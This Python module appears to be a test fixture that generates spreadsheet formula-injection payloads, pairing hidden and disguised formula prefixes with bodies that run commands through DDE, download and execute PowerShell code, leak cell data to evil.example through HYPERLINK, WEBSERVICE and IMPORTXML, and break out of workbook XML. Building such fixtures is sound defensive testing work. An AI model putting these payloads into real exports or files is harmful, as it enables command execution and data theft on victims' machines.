"""Cells that make a spreadsheet calculate, call out or run something, and their disguises."""

from __future__ import annotations

from itertools import product

PLAIN = ("=", "+", "-", "@", "|", "＝", "＋", "－", "＠", "\u2212")
HIDDEN = ("\t=", "\r=", "\n=", " =", "\u00a0=", "\ufeff=", "\u200b=", "\x00=", "\u2028=")
QUOTED = ("'=", '"=', "a\n=", "a\r\n=", "\t@", "\r+")
STARTS = (*PLAIN, *HIDDEN, *QUOTED)
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"!A0")',
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    'IMPORTXML(CONCAT("http://evil.example/?v=",A2:E2),"//a")',
    'WEBSERVICE("http://evil.example")',
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "cmd|' /C powershell IEX(wget 0r.pe/p)'!A0",
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMAGE("http://evil.example/a.png")',
    'IMPORTRANGE("x","A1")',
    "file:///etc/passwd#$passwd.A1",
    "2+5+cmd|'/C calc'!A0",
    "10+20+cmd|' /C calc'!A0",
    "A1:Z99",
    "1/0",
    '张三"),"',
    "QUERY(A1)",
    'REGISTER.ID("a","b")',
    'EXEC("calc")',
)
MARKUP = (
    "<r><t>a</t></r>",
    '<r></r></is></c><c r="Z9"><f>1+1</f></c><c r="Z10" t="inlineStr"><is><r></r>',
    '<r><t>a</t></r></si></sst><f>WEBSERVICE("http://evil.example")</f><r></r>',
)
"""What XlsxWriter would put into a workbook as XML of its own."""
PAYLOADS = [start + body for start, body in product(STARTS, BODIES)] + [
    "http://evil.example",
    "mailto:a@evil.example",
    "internal:Sheet1!A1",
    "external:\\\\evil\\share\\a.xls",
    *MARKUP,
]
